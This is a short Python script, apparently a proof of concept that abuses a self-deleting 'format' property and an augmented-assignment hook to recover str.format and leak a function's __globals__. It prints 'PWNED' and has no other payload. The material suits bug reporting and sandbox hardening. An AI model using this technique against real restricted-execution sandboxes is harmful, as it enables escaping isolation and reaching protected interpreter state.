got = []
class T:
    def __radd__(self, other):
        got.append(other)
        return other
class S(str):
    @property
    def format(self):
        del S.format
        return 1
    @format.setter
    def format(self, value):
        pass
def f():
    pass
s = S("{0.__globals__}")
s.format
s.format += T()
print("PWNED", got[0](f))
